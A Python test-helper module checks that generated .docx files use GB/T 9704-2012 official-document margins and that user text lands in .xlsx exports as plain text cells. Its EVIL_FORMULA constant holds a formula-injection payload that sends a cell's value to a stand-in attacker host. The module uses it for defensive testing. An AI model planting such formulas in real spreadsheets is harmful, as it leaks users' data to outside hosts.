"""Checks the apps' tests share: is a .docx laid out as a 公文, is a text a text cell."""

from __future__ import annotations

import io
from typing import Any

#: A user's text that a spreadsheet would run as a formula if it were written as one.
EVIL_FORMULA = '=HYPERLINK("http://evil.example/"&B2,"x")'


def twips(mm: float) -> int:
    return round(mm / 25.4 * 1440)


def assert_gongwen_page(data: bytes, *, landscape: bool = False) -> None:
    """``data`` is a .docx on A4 with the GB/T 9704-2012 margins (版心 156 × 225 mm), portrait
    or (``landscape``) turned a quarter turn."""
    import docx
    from docx.oxml.ns import qn

    sect = docx.Document(io.BytesIO(data)).sections[0]._sectPr
    size, margins = sect.find(qn("w:pgSz")), sect.find(qn("w:pgMar"))
    width, height = int(size.get(qn("w:w"))), int(size.get(qn("w:h")))
    m = {k: int(margins.get(qn(f"w:{k}"))) for k in ("top", "bottom", "left", "right")}
    if landscape:
        assert (width, height) == (twips(297), twips(210)), (width, height)
        assert size.get(qn("w:orient")) == "landscape"
        assert m == {"top": twips(28), "bottom": twips(26), "left": twips(35), "right": twips(37)}, m
        assert abs(width - m["left"] - m["right"] - twips(225)) <= 1
        assert abs(height - m["top"] - m["bottom"] - twips(156)) <= 1
    else:
        assert (width, height) == (twips(210), twips(297)), (width, height)
        assert m == {"top": twips(37), "bottom": twips(35), "left": twips(28), "right": twips(26)}, m
        assert abs(width - m["left"] - m["right"] - twips(156)) <= 1
        assert abs(height - m["top"] - m["bottom"] - twips(225)) <= 1


def docx_text(data: bytes) -> str:
    """Every paragraph's and table cell's text, one a line."""
    import docx

    document = docx.Document(io.BytesIO(data))
    parts = [p.text for p in document.paragraphs]
    for table in document.tables:
        for row in table.rows:
            parts.extend(cell.text for cell in row.cells)
    return "\n".join(parts)


def cells_with(data: bytes, text: str) -> list[Any]:
    """The cells of an .xlsx (every sheet) whose value is exactly ``text``."""
    from openpyxl import load_workbook

    found: list[Any] = []
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            found.extend(c for c in row if c.value == text)
    return found


def assert_text_cell(data: bytes, text: str = EVIL_FORMULA) -> Any:
    """``text`` is in the workbook as a text cell (never a formula), exactly; returns the cell."""
    found = cells_with(data, text)
    assert found, f"{text!r} is not in the workbook"
    for cell in found:
        assert cell.data_type == "s", (cell.coordinate, cell.data_type)
    return found[0]
